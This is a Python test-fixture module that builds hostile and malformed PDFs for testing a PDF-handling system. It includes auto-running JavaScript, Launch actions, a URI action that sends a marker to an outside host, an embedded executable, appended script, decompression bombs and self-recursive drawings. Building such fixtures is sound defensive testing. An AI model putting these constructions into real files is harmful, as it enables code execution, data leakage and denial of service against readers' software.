"""PDFs that act, hide, lie about themselves or never end; each is written here by hand."""

import io
import zlib

from pypdf import PdfWriter

from . import STEAL, told

SCRIPT = b"<</S/JavaScript/JS(" + STEAL + b")>>"
PAGES, PAGE = (
    b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Contents 4 0 R>>",
)


def pdf(root=b"", pages=PAGES, page=PAGE, content=b"0 0 9 9 re f", *more, head=b"%PDF-1.7\n", trailer=b"", stream=b""):
    """A paper of one page, with its list of places; what is given takes the place of a part."""
    body = [b"<</Type/Catalog/Pages 2 0 R" + root + b">>", pages, page]
    body += [b"<<" + stream + b"/Length %d>>stream\n" % len(content) + content + b"\nendstream", *more]
    raw, places = head, []
    for number, thing in enumerate(body, start=1):
        places.append(len(raw))
        raw += b"%d 0 obj" % number + thing + b"endobj\n"
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1) + rows
    end = b"trailer<</Size %d/Root 1 0 R" % (len(body) + 1) + trailer + b">>\nstartxref\n%d\n%%%%EOF" % len(raw)
    return raw + table + end


def locked():
    writer = PdfWriter()
    writer.add_blank_page(300, 400)
    writer.encrypt(STEAL.decode())
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


def acting():
    """Papers with a page to see, and with something that acts or hides beside it."""
    file = b"<</Type/EmbeddedFile/Length 9>>stream\nMZ" + STEAL + b"\nendstream"
    yield "a script when it opens", pdf(b"/OpenAction" + SCRIPT)
    yield "a script among its names", pdf(b"/Names<</JavaScript<</Names[(a)" + SCRIPT + b"]>>>>")
    yield "a script on its page", pdf(page=PAGE[:-2] + b"/AA<</O" + SCRIPT + b">>>>")
    yield "a program when it opens", pdf(b"/OpenAction<</S/Launch/F(" + STEAL + b")>>")
    yield "a way out when it opens", pdf(b"/OpenAction<</S/URI/URI(http://e.org/" + STEAL + b")>>")
    yield "a form that is sent", pdf(b"/AcroForm<</Fields[]/XFA(<script>" + STEAL + b"</script>)>>")
    yield (
        "a file inside",
        pdf(b"/Names<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 5 0 R>>>>]>>>>", PAGES, PAGE, b"", file),
    )
    yield "an archive behind it", pdf() + b"PK\x03\x04" + STEAL
    yield "a page of the web behind it", pdf() + b"<script>" + STEAL + b"</script>"


def lying():
    """Papers that are not what they say."""
    yield "nothing but its head", b"%PDF-1.7\n"
    yield "rubbish", b"%PDF-1.4\n" + zlib.compress(bytes(1_000_000)) + STEAL
    yield "no pages", pdf(pages=b"<</Type/Pages/Count 0/Kids[]>>")
    yield "pages of pages of pages", pdf(pages=b"<</Type/Pages/Count 1/Kids[2 0 R]>>")
    yield "its own parent", pdf(page=b"<</Type/Pages/Count 1/Kids[2 0 R 3 0 R]/Parent 3 0 R>>")
    yield "a page as long as a street", pdf(page=PAGE.replace(b"300 400", b"1 99999"))
    yield "locked", locked()
    yield "brackets without end", pdf(content=b"[" * 1_000_000)
    yield "half of it", pdf()[:120]
    yield "a script without a page", b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction" + SCRIPT + b">>endobj\n%%EOF"
    yield "a head behind other words", b"<html>" + STEAL + b"</html>" + pdf()


def endless():
    """Papers that ask for time or memory; what can be seen of them may be kept."""
    bomb = zlib.compress(bytes(60_000_000), 9)
    inner = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</a 5 0 R>>>>/Length 5>>stream\n/a Do"
    inner += b"\nendstream"
    huge = b"<</Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    huge += b"/Filter/FlateDecode/Length %d>>stream\n" % len(bomb) + bomb + b"\nendstream"
    drawing = PAGE.replace(b"/Contents", b"/Resources<</XObject<</a 5 0 R>>>>/Contents")
    yield "a drawing that draws itself", pdf(b"", PAGES, drawing, b"/a Do", inner)
    yield "a picture of billions of points", pdf(b"", PAGES, drawing, b"9 0 0 9 0 0 cm /a Do", huge)
    yield "a page that swells", pdf(content=bomb, stream=b"/Filter/FlateDecode")
    yield (
        "packed ten times",
        pdf(content=packed(bytes(9_000_000), 10), stream=b"/Filter[" + b"/FlateDecode" * 10 + b"]"),
    )
    yield "lists within lists", pdf(b"/A" + b"[" * 100_000 + b"]" * 100_000)
    yield "a hundred thousand saved states", pdf(content=b"q " * 100_000 + b"0 0 9 9 re f")
    yield "a number of a megabyte", pdf(content=b"9" * 1_000_000 + b" w 0 0 9 9 re f")
    yield "places that are nowhere", pdf().replace(b" 00000 n", b" 00009 n")
    yield "a stream longer than the file", pdf().replace(b"/Length 12", b"/Length 2147483647")


def packed(content, times):
    for _time in range(times):
        content = zlib.compress(content)
    return content


def every():
    """All of them."""
    for made, drawn in ((acting, True), (lying, False), (endless, True)):
        yield from told(((f"a PDF: {title}", "transfer.pdf", raw) for title, raw in made()), drawn=drawn)
